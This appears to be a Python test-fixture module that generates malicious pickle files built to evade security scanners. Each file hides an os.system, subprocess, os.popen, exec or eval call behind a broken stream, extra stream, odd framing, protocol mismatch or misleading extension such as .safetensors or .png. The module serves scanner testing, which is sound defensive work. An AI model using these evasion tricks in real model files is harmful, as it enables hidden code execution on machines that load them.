"""Streams that are broken, doubled, framed or named so that a scanner reads something else than the unpickler."""

import struct

from families import COMMAND, PYTHON, Case
from families.node import Call, Global, dumps, render
from families.obscure import SYSTEM

NAME = "stream-tricks"
ABOUT = "streams that scanners read otherwise"
ATTACK = Call(SYSTEM, COMMAND)
ALONE = render(ATTACK)
TEXT = b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR"
BENIGN = dumps({"coefficients": [1.0, 2.0], "intercept": 0.5})


def frame(body, length=None):
    return b"\x95" + struct.pack("<Q", len(body) if length is None else length) + body


def cases():
    p4 = b"\x80\x04"
    long_string = b"X" + struct.pack("<I", 5000) + b"w" * 5000 + b"0"
    many = b"".join(b"K" + bytes([number % 256]) + b"0" for number in range(3000))
    files = {
        "no-stop.pkl": p4 + ALONE,
        "no-stop-text.pkl": TEXT,
        "invalid-opcode-after.pkl": p4 + ALONE + b"\xff\xfe",
        "empty-stack-after.pkl": p4 + ALONE + b"0000.",
        "missing-memo-after.pkl": p4 + ALONE + b"h\x77.",
        "string-cut-after.pkl": p4 + ALONE + b"X\xff\xff\xff\x7fabc",
        "bad-utf8-after.pkl": p4 + ALONE + b"\x8c\x02\xff\xfe.",
        "bad-int-after.pkl": p4 + ALONE + b"Ix\n.",
        "bad-float-after.pkl": p4 + ALONE + b"Fnone\n.",
        "bad-import-after.pkl": p4 + ALONE + b"cno.such\nmodule\n.",
        "bad-call-after.pkl": p4 + ALONE + b"N)R.",
        "protocol-9-after.pkl": p4 + ALONE + b"\x80\x09N.",
        "persid-after.pkl": p4 + ALONE + b"Pweights\n.",
        "persid-before.pkl": p4 + ALONE + b"0" + render("weights") + b"Q.",
        "buffer-after.pkl": b"\x80\x05" + ALONE + b"\x97\x98.",
        "frame-short.pkl": p4 + frame(ALONE + b".", 10),
        "frame-zero.pkl": p4 + frame(b"", 0) + ALONE + b".",
        "frame-huge-after.pkl": p4 + ALONE + b"\x95\xff\xff\xff\xff\xff\xff\xff\x7f.",
        "frames-nested.pkl": p4 + frame(frame(ALONE + b".")),
        "frame-in-protocol-2.pkl": b"\x80\x02" + frame(TEXT + b"."),
        "second-stream.pkl": BENIGN + dumps(ATTACK),
        "second-stream-text.pkl": BENIGN + TEXT + b".",
        "third-stream.pkl": BENIGN + dumps([1, 2]) + dumps(ATTACK, 2),
        "zeros-before-second.pkl": BENIGN + b"\x00" * 64 + dumps(ATTACK),
        "first-stream.pkl": dumps(ATTACK) + BENIGN,
        "trailing-noise.pkl": dumps(ATTACK) + b"\x00\x01\x02" * 40,
        "protocol-0-no-magic.pkl": TEXT + b".",
        "protocol-1.pkl": b"cposix\nsystem\n(U" + bytes([len(COMMAND)]) + COMMAND.encode() + b"tR.",
        "protocol-claims-0.pkl": b"\x80\x00" + TEXT + b".",
        "protocol-claims-1.pkl": b"\x80\x01" + ALONE + b".",
        "protocol-5-text.pkl": b"\x80\x05" + TEXT + b".",
        "protocol-twice.pkl": b"\x80\x02\x80\x04" + ALONE + b".",
        "protocol-late.pkl": b"N0" + p4 + ALONE + b".",
        "protocol-2-stack-global.pkl": b"\x80\x02" + ALONE + b".",
        "leading-pops.pkl": b"(1" + p4 + ALONE + b".",
        "int-hexadecimal.pkl": b"I0x10\n0" + TEXT + b".",
        "int-octal.pkl": b"I0o17\n0" + TEXT + b".",
        "int-binary-spaced.pkl": b"I 0b101 \n0" + TEXT + b".",
        "long-underscored.pkl": b"L1_000L\n0" + TEXT + b".",
        "long-hexadecimal.pkl": b"L0xffL\n0" + TEXT + b".",
        "float-nan.pkl": b"Fnan\n0" + TEXT + b".",
        "long4-negative.pkl": p4 + ALONE + b"\x8b\xff\xff\xff\xff.",
        "string-unquoted-after.pkl": TEXT + b"Sx\n.",
        "string-bad-escape.pkl": b"S'\\x00\\101'\n0" + TEXT + b".",
        "string-not-ascii.pkl": b"\x80\x02U\x03\xe9\xff\x800" + TEXT + b".",
        "unicode-surrogate.pkl": b"\x80\x04X\x03\x00\x00\x00\xed\xa0\x800" + ALONE + b".",
        "unicode-newline.pkl": b"Va\\u000ab\n0" + TEXT + b".",
        "global-after-list.pkl": b"(l0" + TEXT + b".",
        "global-carriage-return.pkl": b"cbuiltins\nlist\n0" + TEXT.replace(b"posix", b"os") + b".",
        "inst-names.pkl": b"(V" + COMMAND.encode() + b"\niposix\nsystem\n.",
        "mark-left.pkl": p4 + b"(((" + ALONE + b".",
        "objects-left.pkl": p4 + b"K\x01K\x02N" + ALONE + b".",
        "stop-in-string.pkl": p4 + render("a.b.c.") + b"0" + ALONE + b".",
        "long-string-before.pkl": p4 + long_string + ALONE + b".",
        "many-before.pkl": p4 + many + ALONE + b".",
        "memo-of-nothing.pkl": p4 + b"N\x94" * 300 + b"0" * 299 + b"0" + ALONE + b".",
        "bytearray-before.pkl": b"\x80\x05\x96\x05\x00\x00\x00\x00\x00\x00\x00cos\nx0" + ALONE + b".",
        "named.json": dumps([ATTACK]),
        "named.txt": b"(" + TEXT + b"l.",
        "named.csv": dumps(Call(Global("builtins", "exec"), PYTHON), 2),
        "named.safetensors": dumps(ATTACK, 3),
        "named.onnx": dumps(Call(Global("builtins", "exec"), PYTHON), 3),
        "named.gguf": dumps([Call(Global("subprocess", "getoutput"), COMMAND)]),
        "named.h5": dumps(Call(Global("subprocess", "getoutput"), COMMAND), 2),
        "named.png": dumps(Call(Global("os", "popen"), COMMAND)),
        "named.npy": dumps(Call(Global("os", "popen"), COMMAND), 2),
        "named.zip": dumps(Call(Global("builtins", "eval"), PYTHON), 2),
        "no-extension": dumps(Call(Global("builtins", "eval"), PYTHON)),
        ".hidden": dumps([Call(Global("builtins", "eval"), PYTHON)], 3),
        "MODEL.PKL.BAK": dumps(Call(Global("os", "popen"), COMMAND), 3),
    }
    several = ("second-stream.pkl", "second-stream-text.pkl", "third-stream.pkl")
    return [Case(name, content, "os.system by a stream trick" if not name.startswith("named") else "an extension that lies",
                 "pickles" if name in several else "pickle-latin1" if name == "string-not-ascii.pkl" else None if name == "zeros-before-second.pkl" else "pickle") for name, content in files.items()]
